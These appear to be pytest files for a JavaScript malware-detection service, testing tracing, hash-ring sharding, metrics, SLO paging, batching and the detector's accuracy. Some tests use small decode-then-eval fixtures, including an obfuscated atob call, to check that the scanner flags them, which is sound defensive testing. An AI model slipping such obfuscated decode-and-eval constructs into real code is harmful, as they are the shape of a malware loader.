        assert listing["traces"][0]["trace_id"] == f"{0xF00D:032x}"
        summary = listing["traces"][0]
        assert {"trace_id", "root", "duration_ms", "status", "n_spans"} <= set(summary)
        assert "spans" not in summary
        assert listing["sample_rate"] == 0.0

    def test_unknown_trace_is_404(self, server):
        status, _, body = http_json(server, "GET", f"/debug/traces/{'0' * 32}")
        assert status == 404
        assert "error" in body

    def test_traces_reject_wrong_method(self, server):
        status, _, _ = http_json(server, "POST", "/debug/traces")
        assert status == 405

    def test_healthz_reports_trace_count(self, server):
        status, _, body = http_json(server, "GET", "/healthz")
        assert status == 200
        assert body["traces_stored"] >= 1


class TestLoadGenerator:
    def test_trace_ratio_injects_and_reports(self, server, split):
        scripts = [(f"lg{i}", source) for i, source in enumerate(split.test.sources[:4])]
        report = run_load(
            server.host, server.port, scripts, concurrency=2, repeats=2, trace_ratio=0.5
        )
        assert report.errors == 0
        assert report.requests == 8
        assert report.traced_requests == 4  # half of each 4-request lane
        assert report.status_counts == {200: 8}
        traced = [r for r in report.results if r.traced]
        assert all(r.trace_id and len(r.trace_id) == 32 for r in traced)
        # Injected traces are recorded server-side and retrievable.
        status, _, stored = http_json(server, "GET", f"/debug/traces/{traced[0].trace_id}")
        assert status == 200 and stored["n_spans"] > 0
        summary = report.summary()
        assert "p50=" in summary and "p99=" in summary
        assert "status 200:8" in summary and "traced 4" in summary

    def test_untraced_results_still_carry_echoed_trace_id(self, server, split):
        report = run_load(
            server.host, server.port, [("echo", split.test.sources[0])], concurrency=1
        )
        assert report.traced_requests == 0
        assert report.results[0].trace_id and len(report.results[0].trace_id) == 32

    def test_invalid_trace_ratio_rejected(self, server):
        with pytest.raises(ValueError):
            run_load(server.host, server.port, [("x", "var a;")], trace_ratio=1.5)


class TestVerdictsUnchanged:
    def test_traced_and_untraced_verdicts_identical(self, server, detector, split):
        source = split.test.sources[6]
        expected = detector.scan(source)
        _, _, plain = http_json(server, "POST", "/scan", {"source": source})
        _, _, traced = http_json(
            server, "POST", "/scan", {"source": source}, {"traceparent": traceparent(0xABCD)}
        )
        for body in (plain, traced):
            assert body["label"] == expected.label
            assert body["probability"] == expected.probability
            assert body["verdict"] == expected.verdict
        # Identical payloads except the trace envelope, ids, timings, and
        # the cache flag (the second scan of the same content hits it).
        drop = ("trace", "trace_id", "stage_ms", "cache_hit")
        assert {k: v for k, v in plain.items() if k not in drop} == \
               {k: v for k, v in traced.items() if k not in drop}
