"""Unit tests for the consistent hash ring behind the cluster router."""

import pytest

from repro.serve import HashRing

KEYS = [f"content-key-{i:04d}" for i in range(2000)]


def test_every_key_maps_to_a_member():
    ring = HashRing(["shard-0", "shard-1", "shard-2"])
    owners = {key: ring.node_for(key) for key in KEYS}
    assert set(owners.values()) == {"shard-0", "shard-1", "shard-2"}


def test_placement_is_roughly_balanced():
    ring = HashRing(["shard-0", "shard-1", "shard-2"])
    counts = {member: 0 for member in ring.members}
    for key in KEYS:
        counts[ring.node_for(key)] += 1
    # With 64 vnodes per member the worst arc imbalance stays well under
    # 2x; every member must own a meaningful share.
    for member, count in counts.items():
        assert count > len(KEYS) * 0.15, f"{member} owns only {count}/{len(KEYS)} keys"


def test_removal_only_moves_the_removed_members_keys():
    ring = HashRing(["shard-0", "shard-1", "shard-2"])
    before = {key: ring.node_for(key) for key in KEYS}
    ring.remove("shard-1")
    for key in KEYS:
        owner = ring.node_for(key)
        if before[key] != "shard-1":
            assert owner == before[key]  # untouched arcs stay put
        else:
            assert owner in ("shard-0", "shard-2")


def test_replacement_under_same_id_restores_placement():
    ring = HashRing(["shard-0", "shard-1"])
    before = {key: ring.node_for(key) for key in KEYS}
    ring.remove("shard-0")
    ring.add("shard-0")  # the supervisor respawns under the stable id
    assert {key: ring.node_for(key) for key in KEYS} == before


def test_preference_yields_each_member_once():
    ring = HashRing(["shard-0", "shard-1", "shard-2"])
    order = list(ring.preference("some-key"))
    assert sorted(order) == ["shard-0", "shard-1", "shard-2"]
    # exclude= falls through along the same order.
    assert ring.node_for("some-key") == order[0]
    assert ring.node_for("some-key", exclude={order[0]}) == order[1]
    assert ring.node_for("some-key", exclude=set(order)) is None


def test_empty_ring_and_validation():
    ring = HashRing()
    assert ring.node_for("anything") is None
    assert list(ring.preference("anything")) == []
    assert len(ring) == 0
    with pytest.raises(ValueError):
        HashRing(vnodes=0)


def test_add_is_idempotent():
    ring = HashRing(["shard-0"])
    ring.add("shard-0")
    assert len(ring._points) == ring.vnodes


# ------------------------------------------------------------- replica sets


def test_replicas_are_distinct_and_prefix_of_preference():
    ring = HashRing(["shard-0", "shard-1", "shard-2", "shard-3"])
    for key in KEYS[:200]:
        replica_set = ring.replicas(key, 2)
        assert len(replica_set) == 2
        assert len(set(replica_set)) == 2  # distinct members
        assert replica_set == list(ring.preference(key))[:2]
        assert replica_set[0] == ring.node_for(key)  # primary first


def test_replicas_stable_under_replacement():
    ring = HashRing(["shard-0", "shard-1", "shard-2"])
    before = {key: ring.replicas(key, 2) for key in KEYS}
    ring.remove("shard-1")
    ring.add("shard-1")  # respawned under the stable id
    assert {key: ring.replicas(key, 2) for key in KEYS} == before


def test_replicas_losing_one_member_preserves_survivors():
    # When a replica set member vanishes, every key it served still has
    # its other replica in place — that is the whole failover story.
    ring = HashRing(["shard-0", "shard-1", "shard-2"])
    before = {key: ring.replicas(key, 2) for key in KEYS}
    ring.remove("shard-2")
    for key, replica_set in before.items():
        survivors = [m for m in replica_set if m != "shard-2"]
        assert survivors, "R=2 over 3 members always keeps one survivor"
        assert survivors[0] in ring.replicas(key, 2)


def test_replicas_clamped_to_fleet_and_validated():
    ring = HashRing(["shard-0", "shard-1"])
    assert sorted(ring.replicas("k", 5)) == ["shard-0", "shard-1"]
    with pytest.raises(ValueError):
        ring.replicas("k", 0)
    assert HashRing().replicas("k", 2) == []


def test_co_replicas_cover_actual_replica_partners():
    ring = HashRing(["shard-0", "shard-1", "shard-2", "shard-3"])
    partners = {member: ring.co_replicas(member, 2) for member in ring.members}
    for member, out in partners.items():
        assert member not in out
    # Ground truth from a dense key sweep: every partner found by real
    # keys must be reported by the sampled co_replicas probe.
    truth: dict[str, set] = {member: set() for member in ring.members}
    for key in KEYS:
        replica_set = ring.replicas(key, 2)
        for member in replica_set:
            truth[member].update(m for m in replica_set if m != member)
    for member in ring.members:
        assert truth[member] <= partners[member]


def test_co_replicas_of_unknown_member_is_empty():
    ring = HashRing(["shard-0"])
    assert ring.co_replicas("shard-9", 2) == set()
