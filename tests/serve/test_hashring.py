"""Unit tests for the consistent hash ring behind the cluster router."""

import pytest

from repro.serve import HashRing

KEYS = [f"content-key-{i:04d}" for i in range(2000)]


def test_every_key_maps_to_a_member():
    ring = HashRing(["shard-0", "shard-1", "shard-2"])
    owners = {key: ring.node_for(key) for key in KEYS}
    assert set(owners.values()) == {"shard-0", "shard-1", "shard-2"}


def test_placement_is_roughly_balanced():
    ring = HashRing(["shard-0", "shard-1", "shard-2"])
    counts = {member: 0 for member in ring.members}
    for key in KEYS:
        counts[ring.node_for(key)] += 1
    # With 64 vnodes per member the worst arc imbalance stays well under
    # 2x; every member must own a meaningful share.
    for member, count in counts.items():
        assert count > len(KEYS) * 0.15, f"{member} owns only {count}/{len(KEYS)} keys"


def test_removal_only_moves_the_removed_members_keys():
    ring = HashRing(["shard-0", "shard-1", "shard-2"])
    before = {key: ring.node_for(key) for key in KEYS}
    ring.remove("shard-1")
    for key in KEYS:
        owner = ring.node_for(key)
        if before[key] != "shard-1":
            assert owner == before[key]  # untouched arcs stay put
        else:
            assert owner in ("shard-0", "shard-2")


def test_replacement_under_same_id_restores_placement():
    ring = HashRing(["shard-0", "shard-1"])
    before = {key: ring.node_for(key) for key in KEYS}
    ring.remove("shard-0")
    ring.add("shard-0")  # the supervisor respawns under the stable id
    assert {key: ring.node_for(key) for key in KEYS} == before


def test_preference_yields_each_member_once():
    ring = HashRing(["shard-0", "shard-1", "shard-2"])
    order = list(ring.preference("some-key"))
    assert sorted(order) == ["shard-0", "shard-1", "shard-2"]
    # exclude= falls through along the same order.
    assert ring.node_for("some-key") == order[0]
    assert ring.node_for("some-key", exclude={order[0]}) == order[1]
    assert ring.node_for("some-key", exclude=set(order)) is None


def test_empty_ring_and_validation():
    ring = HashRing()
    assert ring.node_for("anything") is None
    assert list(ring.preference("anything")) == []
    assert len(ring) == 0
    with pytest.raises(ValueError):
        HashRing(vnodes=0)


def test_add_is_idempotent():
    ring = HashRing(["shard-0"])
    ring.add("shard-0")
    assert len(ring._points) == ring.vnodes
