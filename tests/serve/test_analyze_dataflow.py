"""POST /analyze with taint-flow findings: witness round-trip + deobfuscate.

The v1 contract ISSUE 8 adds: every flow finding returned over HTTP
carries its complete ordered source→sink witness, and
``"deobfuscate": true`` makes the endpoint analyze the normalized text
while reporting ``raw_line`` spans into the submitted script.
"""

import json

import pytest

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.serve import BackgroundServer, ServeConfig

from .test_server import http_json

FLOW_SAMPLE = "var p = atob(x);\neval(p);\n"

#: Folding exposes the decode source only in the normalized text: raw,
#: the callee is a computed member with a non-literal key, invisible to
#: both the syntactic catalog and the taint catalog's source match.
OBFUSCATED_SAMPLE = 'var p = window["at" + "ob"](x);\neval(p);\n'


@pytest.fixture(scope="module")
def server():
    split = experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=2)
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    with BackgroundServer(det, ServeConfig(port=0, max_wait_ms=10.0)) as background:
        yield background


def analyze(server, payload, path="/analyze"):
    status, _, body = http_json(server, "POST", path, payload)
    return status, json.loads(body)


class TestWitnessOverHttp:
    def test_flow_finding_carries_ordered_witness(self, server):
        status, payload = analyze(server, {"source": FLOW_SAMPLE, "name": "w.js"})
        assert status == 200 and payload["decisive"] is True
        flow = next(f for f in payload["findings"] if f["rule_id"] == "decode-chain")
        hops = flow["witness"]
        assert [h["op"] for h in hops] == ["source:decode", "assign:p", "sink:eval"]
        lines = [h["line"] for h in hops]
        assert lines == sorted(lines)
        assert all({"line", "col", "op"} <= set(h) for h in hops)

    def test_witness_identical_on_v1_route(self, server):
        _, plain = analyze(server, {"source": FLOW_SAMPLE})
        status, v1 = analyze(server, {"source": FLOW_SAMPLE}, path="/v1/analyze")
        assert status == 200 and v1["api_version"] == "v1"
        strip = lambda p: {  # noqa: E731
            k: v
            for k, v in p.items()
            if k not in ("trace_id", "elapsed_ms", "dataflow_ms")
        }
        assert strip(plain) == strip(v1["data"])

    def test_witness_round_trips_through_report_from_dict(self, server):
        from repro.analysis import AnalysisReport

        _, payload = analyze(server, {"source": FLOW_SAMPLE})
        revived = AnalysisReport.from_dict(
            {k: v for k, v in payload.items() if k != "trace_id"}
        )
        flow = next(f for f in revived.findings if f.rule_id == "decode-chain")
        assert flow.witness and flow.witness[-1]["op"] == "sink:eval"
        assert revived.to_dict()["findings"] == payload["findings"]


class TestAnalyzeDeobfuscate:
    def test_deobfuscate_flag_analyzes_normalized_text(self, server):
        _, without = analyze(server, {"source": OBFUSCATED_SAMPLE})
        assert not any(f["rule_id"] == "decode-chain" for f in without["findings"])
        status, payload = analyze(
            server, {"source": OBFUSCATED_SAMPLE, "deobfuscate": True}
        )
        assert status == 200
        flow = next(f for f in payload["findings"] if f["rule_id"] == "decode-chain")
        assert payload["normalization"]["changed"] is True
        # Raw spans map back into the submitted script: the sink hop
        # points at the eval statement on (raw) line 2.
        assert flow["raw_line"] == 2
        assert flow["witness"][0]["raw_line"] == 1
        assert flow["witness"][-1]["raw_line"] == 2

    def test_clean_input_gets_no_normalization_block(self, server):
        status, payload = analyze(
            server, {"source": "var a = 1;\n", "deobfuscate": True}
        )
        assert status == 200
        assert "normalization" not in payload

    def test_non_boolean_deobfuscate_is_400(self, server):
        status, payload = analyze(
            server, {"source": "var a = 1;", "deobfuscate": "yes"}
        )
        assert status == 400
        assert "deobfuscate" in payload["error"]["message"]


class TestSuppressedAtOverHttp:
    def test_suppressed_at_reports_witness_line(self, server):
        source = "var p = atob(x); // repro-ignore: decode-chain\neval(p);\n"
        _, payload = analyze(server, {"source": source})
        assert not any(f["rule_id"] == "decode-chain" for f in payload["findings"])
        assert {"rule_id": "decode-chain", "line": 1} in payload["suppressed_at"]

    def test_raw_directive_applies_under_deobfuscation(self, server):
        # The normalizer drops comments; the directive written in the
        # submitted script must still silence the flow found in the
        # normalized text, keyed on the raw sink line.
        source = 'var p = window["at" + "ob"](x);\neval(p); // repro-ignore: decode-chain\n'
        status, payload = analyze(server, {"source": source, "deobfuscate": True})
        assert status == 200
        assert not any(f["rule_id"] == "decode-chain" for f in payload["findings"])
        assert {"rule_id": "decode-chain", "line": 2} in payload["suppressed_at"]
