"""End-to-end tests for the fleet observability plane on a real cluster.

One two-shard cluster per module with a fast scrape cadence, driven
through :class:`~repro.client.ScanClient`.  Covers the acceptance
contract of the fleet plane: the federated ``/v1/metrics?aggregate=sum``
view merges per-shard histograms exactly, ``/v1/status`` answers the
whole pane of glass, SLO states flip ``ok → page`` under sustained 5xx
(a second, short-lived cluster whose shards stay dead long enough), the
profiler endpoints answer collapsed stacks, and an exemplar trace id
from the aggregated exposition resolves through ``/v1/debug/traces``.
"""

import os
import re
import signal
import time

import pytest

from repro.client import ScanAPIError, ScanClient
from repro.core import JSRevealer, JSRevealerConfig, save_detector
from repro.datasets import experiment_split
from repro.obs import parse_exposition
from repro.serve import BackgroundCluster, ClusterConfig, RouterConfig

SCRAPE_S = 0.2


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=9, pretrain_per_class=6, train_per_class=12, test_per_class=8)


@pytest.fixture(scope="module")
def model_dir(split, tmp_path_factory):
    detector = JSRevealer(
        JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=9)
    )
    detector.pretrain(split.pretrain.sources, split.pretrain.labels)
    detector.fit(split.train.sources, split.train.labels)
    path = tmp_path_factory.mktemp("model") / "m"
    save_detector(detector, path)
    return str(path)


@pytest.fixture(scope="module")
def cluster(model_dir):
    config = ClusterConfig(
        model_dir=model_dir,
        n_shards=2,
        port=0,
        router=RouterConfig(
            request_timeout_s=60.0,
            scrape_interval_s=SCRAPE_S,
            slo_fast_window_s=2.0,
            slo_slow_window_s=8.0,
            trace_sample_rate=1.0,  # every routed scan records → exemplars always land
        ),
    )
    with BackgroundCluster(config) as background:
        yield background


@pytest.fixture(scope="module")
def client(cluster):
    return ScanClient(cluster.url, timeout_s=60.0, retries=2)


def wait_for(predicate, timeout_s=30.0, poll_s=0.1):
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(poll_s)
    return False


@pytest.fixture(scope="module")
def warmed(client, split):
    """Some routed traffic plus one deterministically-traced request."""
    for i, source in enumerate(split.test.sources[:8]):
        client.scan(source, name=f"warm{i}.js")
    trace_id = os.urandom(16).hex()
    traceparent = f"00-{trace_id}-{os.urandom(8).hex()}-01"
    client.scan(split.test.sources[0], traceparent=traceparent)
    # Let at least one scrape pass absorb the traffic into the ring.
    time.sleep(3 * SCRAPE_S)
    return trace_id


# ----------------------------------------------------------- federation


def test_aggregate_sum_histogram_count_equals_per_shard_sums(client, cluster, warmed):
    """Acceptance (a): merged ``_count`` is exactly the per-shard sum.

    ``repro_serve_queue_wait_seconds`` only moves on scan submissions,
    so with traffic paused the direct per-shard reads are stable and the
    aggregated snapshot must converge to their sum within a scrape.
    """
    family = "repro_serve_queue_wait_seconds"
    shard_clients = [
        ScanClient.for_shard(shard, timeout_s=30.0)
        for shard in client.healthz()["shards"]
    ]
    expected = 0.0
    for shard_client in shard_clients:
        parsed = parse_exposition(shard_client.metrics_text())
        count = parsed[family].value(suffix="_count")
        assert count is not None and count > 0  # both shards saw scans
        expected += count

    def converged():
        merged = parse_exposition(client.metrics_text(aggregate="sum"))
        return merged[family].value(suffix="_count") == expected

    assert wait_for(converged, timeout_s=10.0), (
        f"aggregated {family}_count never reached the per-shard sum {expected}"
    )
    # The merged bucket series is cumulative and ends at the same total.
    merged = parse_exposition(client.metrics_text(aggregate="sum"))
    buckets = [
        s.value for s in merged[family].samples
        if s.name == family + "_bucket"
    ]
    assert buckets == sorted(buckets)
    assert buckets[-1] == expected


def test_aggregate_by_shard_labels_every_member(client, warmed):
    families = parse_exposition(client.metrics_text(aggregate="by-shard"))
    owners = {
        sample.labels.get("shard")
        for family in families.values()
        for sample in family.samples
    }
    assert {"shard-0", "shard-1", "router"} <= owners


def test_aggregate_rejects_unknown_mode(client):
    with pytest.raises(ScanAPIError) as caught:
        client.metrics_text(aggregate="median")
    assert caught.value.status == 400


def test_router_registry_carries_build_info_and_uptime(client):
    families = parse_exposition(client.metrics_text())
    build = families["repro_build_info"]
    assert build.samples and build.samples[0].value == 1.0
    assert "version" in build.samples[0].labels
    assert "python" in build.samples[0].labels
    uptime = families["repro_uptime_seconds"].value()
    assert uptime is not None and uptime > 0


# --------------------------------------------------------------- status


def test_status_answers_the_whole_pane(client, warmed):
    assert wait_for(
        lambda: all(
            shard["rps"] is not None for shard in client.status()["fleet"]
        ),
        timeout_s=10.0,
    )
    status = client.status()
    assert status["status"] == "ok"
    assert status["role"] == "router"
    assert status["n_shards"] == 2 and status["n_healthy"] == 2
    assert status["uptime_s"] > 0
    assert sorted(status["scrape"]["members"]) == ["shard-0", "shard-1"]
    assert status["scrape"]["last_scrape_unix"] is not None
    by_id = {shard["shard"]: shard for shard in status["fleet"]}
    assert set(by_id) == {"shard-0", "shard-1"}
    for shard in by_id.values():
        assert shard["healthy"] is True
        assert shard["rps"] >= 0
        assert shard["queue_depth"] is not None
    slos = {slo["name"]: slo for slo in status["slo"]}
    assert set(slos) == {"availability", "scan-latency"}
    for slo in slos.values():
        assert slo["state"] == "ok"
        assert slo["burn_rate"]["fast"] < 6.0


def test_slo_gauges_exported(client, warmed):
    families = parse_exposition(client.metrics_text())
    assert families["repro_slo_state"].value({"slo": "availability"}) == 0.0
    burn = families["repro_slo_burn_rate"].value({"slo": "availability", "window": "fast"})
    assert burn is not None and burn < 6.0


# ------------------------------------------------------------- profiler


def test_prof_router_and_shard_answer_collapsed_stacks(client):
    profile = client.prof(seconds=0.3, hz=50)
    assert profile.startswith("# wall-clock profile:")
    # The router's asyncio loop thread is alive, so samples land.
    assert int(re.search(r"(\d+) samples", profile).group(1)) > 0

    shard = client.healthz()["shards"][0]
    shard_profile = ScanClient.for_shard(shard, timeout_s=30.0).prof(seconds=0.3, hz=50)
    assert shard_profile.startswith("# wall-clock profile:")


def test_prof_rejects_bad_query(cluster):
    import http.client

    connection = http.client.HTTPConnection(cluster.host, cluster.port, timeout=30)
    connection.request("GET", "/v1/debug/prof?seconds=banana")
    response = connection.getresponse()
    response.read()
    connection.close()
    assert response.status == 400


# ------------------------------------------------------------ exemplars


def test_exemplar_trace_id_resolves_through_debug_traces(client, warmed):
    """Acceptance (c): an aggregated exemplar links to a stored trace."""
    exposition = client.metrics_text(aggregate="sum")
    exemplar_ids = re.findall(r'# \{trace_id="([0-9a-f]+)"\}', exposition)
    assert exemplar_ids, "no exemplar annotations in the aggregated exposition"
    # Prefer the request we traced deterministically; any routed scan's
    # exemplar resolves the same way.
    trace_id = warmed if warmed in exemplar_ids else exemplar_ids[-1]
    merged = client.trace(trace_id)
    assert merged["trace_id"] == trace_id
    assert merged["spans"], "exemplar pointed at an empty trace"


def test_trace_list_filters(client, warmed):
    listing = client.traces(n=50, status="ok")
    assert listing["traces"], "expected stored traces at sample rate 1.0"
    assert all(entry["status"] == "ok" for entry in listing["traces"])
    nothing = client.traces(n=50, slow_ms=1e9)
    assert nothing["traces"] == []


# ----------------------------------------------------- SLO page-on-burn


def test_slo_flips_ok_to_page_under_sustained_5xx(model_dir, split):
    """Acceptance (b): a fleet whose shards stay dead pages availability.

    A dedicated short-lived cluster with a long restart backoff: killing
    both shards leaves the router answering 503 for every scan, and the
    availability SLO must escalate to ``page`` in both burn windows.
    """
    config = ClusterConfig(
        model_dir=model_dir,
        n_shards=2,
        port=0,
        restart_backoff_s=20.0,  # one kill parks the fleet past the test
        router=RouterConfig(
            request_timeout_s=30.0,
            scrape_interval_s=SCRAPE_S,
            slo_fast_window_s=1.0,
            slo_slow_window_s=4.0,
        ),
    )
    with BackgroundCluster(config) as background:
        client = ScanClient(background.url, timeout_s=30.0, retries=0)
        # Healthy traffic first: the ok state is earned, not vacuous.
        for i in range(4):
            client.scan(split.test.sources[i % len(split.test.sources)])
        assert wait_for(
            lambda: {slo["state"] for slo in client.status()["slo"]} == {"ok"},
            timeout_s=10.0,
        )
        for shard in client.healthz()["shards"]:
            os.kill(shard["pid"], signal.SIGKILL)

        deadline = time.monotonic() + 20.0
        paged = False
        while time.monotonic() < deadline and not paged:
            try:
                client.scan("/* burn probe */ eval(x)")
            except ScanAPIError as error:
                assert error.status in (429, 502, 503, 504)
            status = client.status()
            availability = next(s for s in status["slo"] if s["name"] == "availability")
            paged = availability["state"] == "page"
        assert paged, "availability never paged under sustained 5xx"
        assert availability["burn_rate"]["fast"] >= 14.4
        assert availability["burn_rate"]["slow"] >= 14.4
        # The supervisor's health flags converge on their own cadence —
        # the page state is the acceptance bar, not the exact flag timing.
        assert status["n_healthy"] < 2
        assert status["status"] in ("degraded", "down")
