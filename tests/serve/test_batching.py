"""Micro-batcher semantics: coalescing, backpressure, drain.

These tests drive the batcher directly (no HTTP, no model): the scan
callable is a stub that fabricates :class:`ScanReport` objects, so every
assertion about batching behavior is deterministic.
"""

import asyncio
import threading
import time
from concurrent.futures import ThreadPoolExecutor

import pytest

from repro.obs import MetricsRegistry
from repro.pipeline import ScanReport, ScanResult
from repro.serve.batching import Draining, MicroBatcher, QueueFull


def fake_scan(sources, names):
    """Deterministic stand-in for BatchScanner.scan."""
    results = [
        ScanResult(
            path=name,
            label=int(len(source) % 2),
            probability=float(len(source) % 2),
            malicious=bool(len(source) % 2),
            path_count=1,
            cache_hit=False,
        )
        for source, name in zip(sources, names)
    ]
    return ScanReport(results=results)


def run(coro):
    return asyncio.run(coro)


def make_batcher(executor, **kwargs):
    defaults = dict(max_batch=4, max_wait_ms=200.0, queue_limit=64)
    defaults.update(kwargs)
    return MicroBatcher(fake_scan, executor=executor, **defaults)


class TestCoalescing:
    def test_concurrent_submits_coalesce_into_max_batch_chunks(self):
        async def go():
            with ThreadPoolExecutor(max_workers=1) as executor:
                batcher = make_batcher(executor, max_batch=4)
                # All eight admitted before the flush loop starts: the
                # coalescing is then fully deterministic — ceil(8/4) batches.
                futures = [batcher.submit(f"src{i}", f"n{i}") for i in range(8)]
                batcher.start()
                resolved = await asyncio.gather(*futures)
                await batcher.drain()
                return batcher.batch_sizes, resolved

        batch_sizes, resolved = run(go())
        assert batch_sizes == [4, 4]
        assert [result.path for result, _ in resolved] == [f"n{i}" for i in range(8)]

    def test_partial_batch_flushes_on_max_wait(self):
        async def go():
            with ThreadPoolExecutor(max_workers=1) as executor:
                batcher = make_batcher(executor, max_batch=10, max_wait_ms=20.0)
                batcher.start()
                futures = [batcher.submit("a", "x"), batcher.submit("bb", "y")]
                await asyncio.gather(*futures)
                await batcher.drain()
                return batcher.batch_sizes

        assert run(go()) == [2]  # flushed by age, not by reaching max_batch

    def test_results_map_back_to_submitters(self):
        async def go():
            with ThreadPoolExecutor(max_workers=1) as executor:
                batcher = make_batcher(executor)
                futures = {name: batcher.submit(source, name)
                           for name, source in (("even", "ab"), ("odd", "abc"))}
                batcher.start()
                out = {}
                for name, future in futures.items():
                    result, report = await future
                    out[name] = result
                await batcher.drain()
                return out

        out = run(go())
        assert out["even"].label == 0 and out["odd"].label == 1
        assert out["even"].path == "even" and out["odd"].path == "odd"


class TestBackpressure:
    def test_queue_full_raises(self):
        async def go():
            with ThreadPoolExecutor(max_workers=1) as executor:
                batcher = make_batcher(executor, queue_limit=2)
                # Not started: nothing drains the queue.
                batcher.submit("a", "a")
                batcher.submit("b", "b")
                with pytest.raises(QueueFull):
                    batcher.submit("c", "c")
                assert batcher.queue_depth == 2
                batcher.start()
                await asyncio.gather(*list(batcher._outstanding))
                await batcher.drain()

        run(go())

    def test_rejection_is_counted(self):
        async def go():
            registry = MetricsRegistry()
            with ThreadPoolExecutor(max_workers=1) as executor:
                batcher = make_batcher(executor, queue_limit=1, metrics=registry)
                batcher.submit("a", "a")
                with pytest.raises(QueueFull):
                    batcher.submit("b", "b")
                batcher.start()
                await asyncio.gather(*list(batcher._outstanding))
                await batcher.drain()
            return registry

        registry = run(go())
        rejected = registry.get("repro_serve_rejected_total", {"reason": "queue_full"})
        assert rejected.value == 1
        assert registry.get("repro_serve_batches_total").value == 1


class TestDrain:
    def test_drain_answers_everything_admitted(self):
        async def go():
            with ThreadPoolExecutor(max_workers=1) as executor:
                batcher = make_batcher(executor, max_batch=2)
                futures = [batcher.submit(f"s{i}", f"n{i}") for i in range(5)]
                batcher.start()
                await batcher.drain()
                assert all(f.done() for f in futures)
                return [f.result()[0].path for f in futures]

        assert run(go()) == [f"n{i}" for i in range(5)]

    def test_draining_rejects_new_submissions(self):
        async def go():
            with ThreadPoolExecutor(max_workers=1) as executor:
                batcher = make_batcher(executor)
                batcher.start()
                await batcher.drain()
                with pytest.raises(Draining):
                    batcher.submit("late", "late")

        run(go())

    def test_drain_waits_for_slow_scan(self):
        release = threading.Event()

        def slow_scan(sources, names):
            release.wait(timeout=10)
            return fake_scan(sources, names)

        async def go():
            with ThreadPoolExecutor(max_workers=1) as executor:
                batcher = MicroBatcher(
                    slow_scan, executor=executor, max_batch=1, max_wait_ms=0.0, queue_limit=8
                )
                batcher.start()
                future = batcher.submit("x", "x")
                await asyncio.sleep(0.05)  # let the batch enter the executor
                asyncio.get_running_loop().call_later(0.05, release.set)
                started = time.perf_counter()
                await batcher.drain()
                assert future.done()
                return time.perf_counter() - started

        assert run(go()) >= 0.04  # drain blocked until the scan finished


class TestFailures:
    def test_scan_exception_propagates_to_futures(self):
        def broken_scan(sources, names):
            raise RuntimeError("engine on fire")

        async def go():
            with ThreadPoolExecutor(max_workers=1) as executor:
                batcher = MicroBatcher(
                    broken_scan, executor=executor, max_batch=4, max_wait_ms=5.0, queue_limit=8
                )
                batcher.start()
                future = batcher.submit("x", "x")
                with pytest.raises(RuntimeError, match="engine on fire"):
                    await future
                await batcher.drain()

        run(go())

    def test_constructor_validation(self):
        with ThreadPoolExecutor(max_workers=1) as executor:
            with pytest.raises(ValueError):
                MicroBatcher(fake_scan, executor=executor, max_batch=0)
            with pytest.raises(ValueError):
                MicroBatcher(fake_scan, executor=executor, max_wait_ms=-1)
            with pytest.raises(ValueError):
                MicroBatcher(fake_scan, executor=executor, queue_limit=0)
