"""Integration-grade unit tests for the JSRevealer detector."""

import numpy as np
import pytest

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.ml import accuracy


def fast_config(**overrides):
    defaults = dict(embed_dim=24, pretrain_epochs=4, k_benign=4, k_malicious=4, seed=0)
    defaults.update(overrides)
    return JSRevealerConfig(**defaults)


@pytest.fixture(scope="module")
def small_split():
    return experiment_split(seed=3, pretrain_per_class=8, train_per_class=16, test_per_class=10)


@pytest.fixture(scope="module")
def trained_detector(small_split):
    detector = JSRevealer(fast_config())
    detector.pretrain(small_split.pretrain.sources, small_split.pretrain.labels)
    detector.fit(small_split.train.sources, small_split.train.labels)
    return detector


class TestProtocol:
    def test_fit_before_pretrain_rejected(self):
        detector = JSRevealer(fast_config())
        with pytest.raises(RuntimeError):
            detector.fit(["var a = 1;"], [0])

    def test_predict_before_fit_rejected(self):
        detector = JSRevealer(fast_config())
        with pytest.raises(RuntimeError):
            detector.predict(["var a = 1;"])

    def test_mismatched_fit_lengths(self, small_split):
        detector = JSRevealer(fast_config())
        detector.pretrain(small_split.pretrain.sources, small_split.pretrain.labels)
        with pytest.raises(ValueError):
            detector.fit(["var a = 1;"], [0, 1])

    def test_invalid_config_rejected(self):
        with pytest.raises(ValueError):
            JSRevealer(JSRevealerConfig(k_benign=0))
        with pytest.raises(ValueError):
            JSRevealer(JSRevealerConfig(contamination=0.9))


class TestDetection:
    def test_high_accuracy_on_clean_test_set(self, trained_detector, small_split):
        predictions = trained_detector.predict(small_split.test.sources)
        assert accuracy(small_split.test.label_array, predictions) >= 0.9

    def test_probabilities_shape(self, trained_detector, small_split):
        proba = trained_detector.predict_proba(small_split.test.sources[:4])
        assert proba.shape == (4, 2)
        assert np.allclose(proba.sum(axis=1), 1.0)

    def test_unparseable_source_does_not_crash(self, trained_detector):
        predictions = trained_detector.predict(["not !! valid :: javascript ((("])
        assert predictions.shape == (1,)

    def test_empty_source_does_not_crash(self, trained_detector):
        predictions = trained_detector.predict([""])
        assert predictions.shape == (1,)


class TestExplain:
    def test_explanations_ranked_by_importance(self, trained_detector):
        explanations = trained_detector.explain(top_n=5)
        importances = [e.importance for e in explanations]
        assert importances == sorted(importances, reverse=True)
        assert all(e.cluster_label in ("benign", "malicious") for e in explanations)

    def test_central_paths_present(self, trained_detector):
        explanations = trained_detector.explain(top_n=3)
        assert all(e.central_path_signature for e in explanations)

    def test_both_classes_contribute_features(self, trained_detector):
        explanations = trained_detector.explain(top_n=trained_detector.feature_extractor.n_features)
        labels = {e.cluster_label for e in explanations}
        assert labels == {"benign", "malicious"}


class TestTiming:
    def test_stage_timings_recorded(self, trained_detector):
        timings = trained_detector.mean_stage_ms()
        for stage in ("path_extraction", "embedding", "feature_extraction", "classifier_training"):
            assert stage in timings
            assert timings[stage] >= 0.0


class TestAblation:
